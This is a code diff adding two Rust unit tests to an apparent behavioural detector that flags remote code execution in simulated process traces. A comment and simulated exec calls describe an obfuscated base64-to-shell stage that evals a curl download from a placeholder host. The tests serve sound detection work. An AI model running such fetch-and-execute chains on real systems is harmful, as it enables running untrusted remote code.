@@ -244,6 +244,91 @@ fn fileless_execution_from_memfd() {
 }
 
 #[test]
+fn decoded_stage_evaluating_a_substituted_fetch() {
+    // `echo ZXZhbC… | base64 -d | sh` decodes to `eval "$(curl -fsSL URL)"`: the shell reads
+    // its code from the pipe and its own child prints what it fetched.
+    let mut t = T::new();
+    t.step(1, "x");
+    t.exec(10, 1, "/bin/bash", &["bash", "x.sh"]);
+    t.spawn(10, 11, 1);
+    t.spawn(10, 12, 1);
+    t.exec(11, 1, "/usr/bin/base64", &["base64", "-d"]);
+    let sh = t.exec(12, 1, "/bin/sh", &["sh"]);
+    t.spawn(12, 13, 1);
+    let dl = t.exec(
+        13,
+        1,
+        "/usr/bin/curl",
+        &["curl", "-fsSL", "-m", "5", "https://cdn.example.io/s2.sh"],
+    );
+    t.http(
+        13,
+        1,
+        "GET",
+        "https://cdn.example.io/s2.sh",
+        "cdn.example.io",
+        0,
+    );
+    let r = judge(&t.done(), &none());
+    let i = find(&r, "BEHAV_REMOTE_EXEC");
+    assert!(
+        i.evidence.contains(&sh) && i.evidence.contains(&dl),
+        "{i:?}"
+    );
+}
+
+#[test]
+fn a_piped_shell_downloading_to_a_file_or_a_script_fetching_data_is_not_remote_exec() {
+    // The same decoded shell saving to a file (caught only if the file is run), and a script
+    // file putting a fetch into a variable, are not remote execution by themselves.
+    let mut t = T::new();
+    t.step(1, "x");
+    t.exec(10, 1, "/bin/bash", &["bash", "x.sh"]);
+    t.spawn(10, 12, 1);
+    t.exec(12, 1, "/bin/sh", &["sh"]);
+    t.spawn(12, 13, 1);
+    t.exec(
+        13,
+        1,
+        "/usr/bin/curl",
+        &[
+            "curl",
+            "-fsSL",
+            "-o",
+            "/tmp/data.json",
+            "https://api.example.io/d",
+        ],
+    );
+    t.http(
+        13,
+        1,
+        "GET",
+        "https://api.example.io/d",
+        "api.example.io",
+        0,
+    );
+    t.spawn(10, 14, 1);
+    t.exec(14, 1, "/bin/bash", &["bash", "fetch.sh"]);
+    t.spawn(14, 15, 1);
+    t.exec(
+        15,
+        1,
+        "/usr/bin/curl",
+        &["curl", "-s", "https://api.example.io/v"],
+    );
+    t.http(
+        15,
+        1,
+        "GET",
+        "https://api.example.io/v",
+        "api.example.io",
+        0,
+    );
+    let r = judge(&t.done(), &none());
+    assert!(!has(&r, "BEHAV_REMOTE_EXEC"), "{:#?}", r.indicators);
+}
+
+#[test]
 fn fetching_data_and_running_local_tools_is_not_remote_exec() {
     let mut t = T::new();
     t.step(1, "x");
